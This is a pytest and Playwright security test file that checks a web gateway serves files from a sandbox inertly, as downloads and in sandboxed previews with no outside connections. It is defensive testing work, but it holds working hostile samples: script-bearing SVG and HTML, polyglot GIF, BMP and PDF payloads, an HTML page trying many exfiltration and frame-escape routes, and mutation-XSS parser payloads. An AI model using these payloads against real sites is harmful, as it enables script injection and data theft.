"""Files that want to run in the page: what a sandbox serves is shown or saved, and never becomes a part of the page."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncGenerator, AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.async_api import Page, Route, expect

from backend_api.kit.http.ports import WebOptions
from backend_api.sandboxes.tool_api.endpoints import Endpoints
from backend_api.sandboxes.tool_api.workspace import ToolApiWorkspace
from support.endpoint_victim import FixedTokens
from support.gateway import Gateway, run_gateway
from support.hostile_endpoint import Wire, head, hostile_endpoint
from support.listener import listener, was_reached, was_told
from support.page import WIDE, chromium
from support.servers import Server
from support.stack import ROOT

CONTENT = "http://files.example.org"
RUN = "try{top.ran=1}catch(e){}window.ran=1;localStorage.setItem('ran','1');"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{RUN}</script></svg>'
HTML = f"<!doctype html><title>evil</title><p>shown</p><script>{RUN}</script>"
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'


@dataclass(frozen=True, slots=True)
class Evil:
    """Bytes, and the type the sandbox says they have."""

    content: bytes
    served_as: str
    text: str | None = None


def text(content: str, served_as: str) -> Evil:
    return Evil(content.encode(), served_as, content)


FILES: dict[str, Evil] = {
    "evil.js": text(RUN, "text/javascript"),
    "evil.mjs": text(RUN + "export {}", "text/javascript"),
    "evil.css": text("body{background:red}", "text/css"),
    "evil.svg": text(SVG, "image/svg+xml"),
    "evil.html": text(HTML, "text/html"),
    "evil.xhtml": text(XHTML, "application/xhtml+xml"),
    "evil.json": text(RUN, "application/json"),
    "page.png": text(HTML, "text/html"),
    "script.png": text(RUN, "text/javascript"),
    "page.pdf": text(HTML, "text/html"),
    "gif.js": Evil(b"GIF89a/*" + bytes(4) + b"*/=0;" + RUN.encode(), "text/javascript"),
    "bitmap.js": text(f"BM=1;{RUN}", "application/javascript"),
    "pdf.html": Evil(b"%PDF-1.7\n" + HTML.encode(), "text/html"),
    "binary.wasm": Evil(b"\0asm\1\0\0\0", "application/wasm"),
    "plain.txt": text(RUN, "text/javascript; charset=utf-7"),
}
INERT = {
    "text/plain; charset=utf-8",
    "application/json",
    # Only ever saved, and no script of them runs where they are not.
    "text/html; charset=utf-8",
    "image/svg+xml",
    "application/octet-stream",
    "application/pdf",
    "image/png",
    "image/gif",
}


async def serve_files(wire: Wire) -> None:
    """As a tool API whose every word is an attacker's."""
    target = wire.request.split(b" ")[1].decode()
    asked, query = urlsplit(target), parse_qs(urlsplit(target).query)
    if asked.path == "/files":
        usual = {"modified_at": "2026-01-01T00:00:00Z", "is_dir": False}
        entries = [{"path": name, "name": name, "size": len(one.content)} | usual for name, one in FILES.items()]
        answer, kind = json.dumps(entries).encode(), "application/json"
    else:
        name = query["path"][0]
        one = FILES[name]
        answer, kind = one.content, one.served_as
        if asked.path == "/files/content":
            told = {"path": name, "name": name, "size": len(answer), "content": one.text, "binary": one.text is None}
            answer, kind = json.dumps(told | {"language": None, "truncated": False}).encode(), "application/json"
    sent = head(
        f"Content-Type: {kind}",
        f"Content-Length: {len(answer)}",
        'Content-Disposition: inline; filename="x.html"',
        "Content-Security-Policy: default-src *",
        "Connection: close",
    )
    await wire.send(sent + answer)


@asynccontextmanager
async def hostile_gateway(
    mongo: Server, redis: Server, database: str, folder: Path, origin: str = ""
) -> AsyncIterator[Gateway]:
    options = WebOptions(is_local=True, frontend=ROOT / "frontend" / "dist", user_content_origin=origin)
    if origin:
        options = WebOptions(
            is_local=True,
            frontend=options.frontend,
            user_content_origin=origin,
            allowed_hosts=(urlsplit(origin).netloc,),
        )
    async with (
        hostile_endpoint(folder / "door.sock", serve_files) as endpoint,
        Endpoints(FixedTokens(f"unix:{endpoint}")) as endpoints,
        run_gateway(mongo.uri, database, redis.uri, options=options, files=ToolApiWorkspace(endpoints)) as gateway,
    ):
        yield gateway


@pytest.fixture
async def gateway(
    mongo_server: Server, redis_server: Server, mongo_database_name: str, tmp_path: Path
) -> AsyncGenerator[Gateway]:
    async with hostile_gateway(mongo_server, redis_server, mongo_database_name, tmp_path) as running:
        yield running


async def links(gateway: Gateway, session: str) -> dict[str, str]:
    """A signed link to each."""
    found: dict[str, str] = {}
    for name in FILES:
        answer = await gateway.client.post(f"/api/sessions/{session}/files/link", json={"path": name})
        found[name] = answer.raise_for_status().json()["url"]
    return found


async def nothing_ran(page: Page) -> None:
    for frame in page.frames:
        assert await frame.evaluate("() => window.ran ?? null") is None, frame.url
    assert await page.evaluate("() => localStorage.getItem('ran')") is None


_TRY_ALL = """
async (address) => {
  const ended = (element) => new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('refused')
    document.head.append(element)
    setTimeout(() => resolve('nothing'), 3000)
  })
  const tried = {}
  tried.script = await ended(Object.assign(document.createElement('script'), { src: address }))
  tried.module = await ended(Object.assign(document.createElement('script'), { src: address, type: 'module' }))
  tried.style = await ended(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }))
  tried.import = await import(address).then(() => 'loaded', () => 'refused')
  tried.worker = await new Promise((resolve) => {
    try {
      const worker = new Worker(address)
      worker.onerror = () => resolve('refused')
      worker.onmessage = () => resolve('loaded')
      setTimeout(() => resolve('nothing'), 500)
    } catch { resolve('refused') }
  })
  tried.service = await navigator.serviceWorker.register(address).then(() => 'loaded', () => 'refused')
  return tried
}
"""


async def test_no_link_is_a_part_of_the_page(gateway: Gateway) -> None:
    session = await gateway.session({})
    addresses = await links(gateway, session)
    addresses |= {f"download of {name}": f"/api/sessions/{session}/files/download?path={name}" for name in FILES}
    async with chromium() as browser:
        page = await browser.new_page(viewport=WIDE, locale="en")
        await page.goto(gateway.url)
        tried = await asyncio.gather(*(page.evaluate(_TRY_ALL, address) for address in addresses.values()))
        assert [(name, one) for name, one in zip(addresses, tried, strict=True) if "loaded" in one.values()] == []
        await nothing_ran(page)


async def test_no_file_is_served_as_what_the_sandbox_says(gateway: Gateway) -> None:
    session = await gateway.session({})
    for name, address in (await links(gateway, session)).items():
        for url in (address, f"/api/sessions/{session}/files/download?path={name}"):
            answer = await gateway.client.get(url)
            assert answer.content == FILES[name].content
            headers = answer.headers
            assert headers["content-type"] in INERT, (name, headers["content-type"])
            assert headers["content-disposition"].startswith(f'attachment; filename="{name}"')
            assert headers["content-security-policy"] == "sandbox; default-src 'none'"
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["cross-origin-resource-policy"] == "same-origin"


async def test_a_link_that_is_opened_is_saved(gateway: Gateway) -> None:
    addresses = await links(gateway, await gateway.session({}))
    async with chromium() as browser:
        page = await browser.new_page(viewport=WIDE, locale="en")
        await page.goto(gateway.url)
        for name in ("evil.html", "evil.svg", "pdf.html", "plain.txt"):
            async with page.expect_download() as saving:
                await page.evaluate("(address) => { window.location.href = address }", addresses[name])
            assert (await saving.value).suggested_filename == name
        await nothing_ran(page)


@pytest.mark.timeout(180)
async def test_no_preview_runs_anything(gateway: Gateway) -> None:
    session = await gateway.session({})
    await gateway.client.post(f"/api/sessions/{session}/sandbox")
    async with chromium() as browser:
        context = await browser.new_context(viewport=WIDE, locale="en")
        page = await context.new_page()
        await page.goto(f"{gateway.url}/s/{session}")
        await page.get_by_role("button", name="Show computer").click()
        await page.get_by_role("tab", name="Files").click()
        for name in FILES:
            row = page.locator("button[data-row]").filter(has=page.get_by_text(name, exact=True))
            await row.click()
            preview = page.get_by_role("region", name=name)
            await expect(preview.locator("header .tabular-nums")).to_be_visible()  # its size: it is loaded
            await nothing_ran(page)
            for shown in await preview.locator("img, iframe[src]").evaluate_all("all => all.map((one) => one.src)"):
                await opens_harmlessly(page, name, shown)
            for sandbox in await preview.locator("iframe:not([src])").evaluate_all(
                "all => all.map((one) => one.getAttribute('sandbox'))"
            ):
                assert sandbox == "", name
            await preview.get_by_role("button", name="Back").click()
        await nothing_ran(page)


def attack(address: str) -> str:
    """An HTML document that tries whatever one may try to get out of where it is shown."""
    to = f"http://{address}"
    return f"""<!doctype html><html><head><base href="{to}/base/">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta http-equiv="refresh" content="0;url={to}/refresh">
<link rel="stylesheet" href="{to}/style"><link rel="preconnect" href="{to}"><link rel="prefetch" href="{to}/prefetch">
<style>@import url({to}/import); @font-face {{font-family: x; src: url({to}/font)}} body {{font-family: x}}</style>
<script>{RUN}; fetch('{to}/fetch'); top.location = '{to}/top'; open('{to}/open')</script></head>
<body onload="{RUN}" style="background: url({to}/background)"><p>shown</p>
<img src="{to}/picture" onerror="{RUN}"><svg onload="{RUN}"></svg><iframe src="{to}/frame"></iframe>
<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="{to}/object"></object><embed src="{to}/embed">
<video src="{to}/video" poster="{to}/poster" autoplay></video><audio src="{to}/audio" autoplay></audio>
<form action="{to}/form" method="post"><input name="word" value="secret" autofocus onfocus="this.form.submit()">
<button>send</button></form><a href="{to}/top" target="_top">away</a><a href="{to}/new" target="_blank">new</a>
<a href="{to}/itself" ping="{to}/ping">itself</a><a href="javascript:{RUN}">run</a>
<svg width="90" height="20"><a><set attributeName="href" to="{to}/set"/><text y="15">moved</text></a></svg>
<div><template shadowrootmode="open"><a href="{to}/hosted">hosted</a></template></div></body></html>"""


def mutations(address: str) -> list[str]:
    """Documents in which a connection is opened only by what they become when they are written and parsed again."""
    hint = f'<link rel="preconnect" href="http://{address}"><link rel="dns-prefetch" href="//{address}">'
    quoted = f"<link rel=preconnect href=http://{address}>"
    return [
        f"<p>shown<form><math><mtext></form><form><mglyph><style></math>{hint}",
        f'<p>shown<math><mtext><table><mglyph><style><!--</style><p title="--&gt;{quoted}">',
        f'<p>shown<svg></p><style><p id="</style>{quoted}">',
        f'<p>shown<noscript><p title="</noscript>{quoted}"></noscript>',
        f"<p>shown<noembed>{hint}</noembed><noframes>{hint}</noframes><xmp>{hint}</xmp>",
    ]


@pytest.mark.timeout(120)
async def test_an_html_file_is_shown_and_reaches_nothing(gateway: Gateway, monkeypatch: pytest.MonkeyPatch) -> None:
    session = await gateway.session({})
    await gateway.client.post(f"/api/sessions/{session}/sandbox")
    with listener() as (address, server), listener() as (open_address, open_server):
        monkeypatch.setitem(FILES, "attack.html", text(attack(address), "text/html"))
        async with chromium() as browser:
            context = await browser.new_context(viewport=WIDE, locale="en")
            elsewhere = await context.new_page()
            await elsewhere.set_content(attack(open_address), wait_until="commit")
            await reached(open_server)  # where nothing holds it, it gets out
            await elsewhere.close()

            page = await context.new_page()
            await page.goto(f"{gateway.url}/s/{session}")
            await page.get_by_role("button", name="Show computer").click()
            await page.get_by_role("tab", name="Files").click()
            await page.locator("button[data-row]").filter(has=page.get_by_text("attack.html", exact=True)).click()
            frame = page.frame_locator("iframe[title='attack.html']")
            await expect(frame.get_by_text("shown")).to_be_visible()
            stayed = page.url
            await expect(frame.get_by_text("hosted")).to_have_count(0)
            for name in ("send", "away", "new", "itself", "run", "moved"):
                await frame.get_by_text(name, exact=True).click()
            await expect(frame.get_by_text("shown")).to_be_visible()
            await nothing_ran(page)
            await page.wait_for_timeout(500)  # long enough for what should not be to arrive
            assert not was_reached(server)

            # Where nothing was taken out of it the frame alone holds it: a link may open a connection, not speak.
            shown = page.locator("iframe[title='attack.html']")
            assert await shown.evaluate("frame => [frame.getAttribute('sandbox'), frame.src]") == ["", ""]
            await shown.evaluate("(frame, raw) => { frame.srcdoc = raw }", attack(address))
            await expect(frame.get_by_text("shown")).to_be_visible()
            await frame.get_by_text("send", exact=True).click()
            await frame.get_by_text("away", exact=True).click()
            await frame.get_by_text("new", exact=True).click()
            await page.wait_for_timeout(500)  # long enough for what should not be to arrive

            assert page.url == stayed
            assert context.pages == [page]
            assert await page.evaluate("() => [window.ran ?? null, localStorage.getItem('ran')]") == [None, None]
        assert was_told(server) == b""


@pytest.mark.thorough
@pytest.mark.timeout(120)
async def test_no_html_file_opens_a_connection_by_what_it_becomes(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await gateway.session({})
    await gateway.client.post(f"/api/sessions/{session}/sandbox")
    with listener() as (address, server):
        names = [f"mutation-{number}.html" for number in range(len(mutations(address)))]
        for name, source in zip(names, mutations(address), strict=True):
            monkeypatch.setitem(FILES, name, text(source, "text/html"))
        async with chromium() as browser:
            page = await browser.new_page(viewport=WIDE, locale="en")
            await page.goto(f"{gateway.url}/s/{session}")
            await page.get_by_role("button", name="Show computer").click()
            await page.get_by_role("tab", name="Files").click()
            for name in names:
                await page.locator("button[data-row]").filter(has=page.get_by_text(name, exact=True)).click()
                frame = page.frame_locator(f"iframe[title='{name}']")
                await expect(frame.get_by_text("shown")).to_be_visible()
                # Not every browser that is run by a program follows such a hint.
                await expect(frame.locator("link, base, a[href]")).to_have_count(0)
                await page.wait_for_timeout(500)  # long enough for what should not be to arrive
                assert not was_reached(server), name
                await page.get_by_role("region", name=name).get_by_role("button", name="Back").click()


async def reached(server: socket.socket) -> None:
    async with asyncio.timeout(10):
        while not was_reached(server):
            await asyncio.sleep(0.05)


async def opens_harmlessly(page: Page, name: str, address: str) -> None:
    """Of what stands in the page nothing is an address that would run in its origin if it were opened on its own."""
    if address.startswith("data:"):
        assert address.startswith("data:image/svg+xml"), name
        return
    kind = await page.evaluate("(address) => fetch(address).then((it) => it.blob()).then((it) => it.type)", address)
    assert kind in ("image/png", "image/gif", "image/jpeg", "application/pdf"), (name, kind)


async def test_links_have_an_origin_of_their_own_where_one_is_set(
    mongo_server: Server, redis_server: Server, mongo_database_name: str, tmp_path: Path
) -> None:
    async with hostile_gateway(mongo_server, redis_server, mongo_database_name, tmp_path, CONTENT) as gateway:
        session = await gateway.session({})
        addresses = await links(gateway, session)
        assert all(address.startswith(f"{CONTENT}/api/files/") for address in addresses.values())
        there = {"Host": urlsplit(CONTENT).netloc}

        shown = await gateway.client.get(urlsplit(addresses["evil.html"]).path, headers=there)
        assert shown.headers["content-type"] == "text/html; charset=utf-8"
        assert shown.headers["content-disposition"].startswith("inline")
        assert shown.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        script = await gateway.client.get(urlsplit(addresses["evil.js"]).path, headers=there)
        assert script.headers["content-type"] == "text/plain; charset=utf-8"
        saved = await gateway.client.get(f"{urlsplit(addresses['evil.html']).path}?download=true", headers=there)
        assert saved.headers["content-disposition"].startswith("attachment")
        for other in ("/", "/assets/x.js", "/api/sessions", "/api/auth/status", f"/s/{session}", "/healthz", "/docs"):
            assert (await gateway.client.get(other, headers=there)).status_code == 404, other
        assert (await gateway.client.post("/api/sessions", json={}, headers=there)).status_code == 404

        # And at the page's own they are saved as before.
        elsewhere = await gateway.client.get(urlsplit(addresses["evil.html"]).path)
        assert elsewhere.headers["content-disposition"].startswith("attachment")
        assert elsewhere.headers["content-security-policy"] == "sandbox; default-src 'none'"

        async def pass_on(route: Route) -> None:
            asked = urlsplit(route.request.url)
            answer = await gateway.client.get(f"{asked.path}", headers=there)
            await route.fulfill(status=answer.status_code, headers=dict(answer.headers), body=answer.content)

        async with chromium() as browser:
            page = await browser.new_page()
            await page.route(f"{CONTENT}/**", pass_on)
            await page.goto(addresses["evil.html"])
            await expect(page.get_by_text("shown")).to_be_visible()
            assert await page.evaluate("() => [window.ran ?? null, window.origin]") == [None, "null"]
